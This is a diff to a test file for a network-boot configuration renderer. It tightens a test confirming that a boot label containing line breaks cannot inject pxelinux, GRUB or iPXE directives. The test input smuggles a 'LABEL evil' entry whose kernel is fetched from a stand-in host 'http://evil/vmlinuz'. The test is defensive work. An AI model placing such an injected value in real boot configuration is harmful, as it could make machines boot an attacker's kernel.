@@ -73,10 +73,14 @@ describe('injection cases (§0 rule 1, §3.6)', () => {
   test('a boot label with a newline cannot add a pxelinux, GRUB or iPXE directive', () => {
     const hostile = patched('wn10.example.org', (m) => ({ ...m, boot: { ...m.boot!, label: 'EL9\nLABEL evil\n  KERNEL http://evil/vmlinuz' } }));
     const { diagnostics, artifacts } = render(hostile);
-    const found = errors(diagnostics);
-    expect(found.length).toBeGreaterThanOrEqual(3);
-    expect(new Set(found.map((d) => d.path))).toEqual(new Set(['/system/aii/nbp/pxelinux/label']));
-    expect(found.map((d) => d.code)).toEqual(found.map(() => 'PF501'));
+    const [d, ...rest] = errors(diagnostics);
+    expect(rest).toEqual([]);
+    expect(d).toMatchObject({ code: 'PF501', path: '/system/aii/nbp/pxelinux/label' });
+    expect(d!.message).toBe(
+      'boot label at /system/aii/nbp/pxelinux/label: "EL9\\nLABEL evil\\n  KERNEL http://evil/vmlinuz" contains a line break or control character; ' +
+        'in profile wn10.example.org; not written: 3 files: ipxe/wn10.example.org.ipxe, tftpboot/grub/grub.cfg-01-3c-ec-ef-4a-10-60, tftpboot/pxelinux.cfg/01-3c-ec-ef-4a-10-60',
+    );
+    expect(d!.related?.map((r) => r.span.file)).toEqual(['templates/boot/pxelinux.cfg.hbs', 'templates/boot/ipxe.hbs']);
     for (const file of ['tftpboot/pxelinux.cfg/01-3c-ec-ef-4a-10-60', 'tftpboot/grub/grub.cfg-01-3c-ec-ef-4a-10-60', 'ipxe/wn10.example.org.ipxe']) {
       expect(artifacts.has(file)).toBe(false);
     }
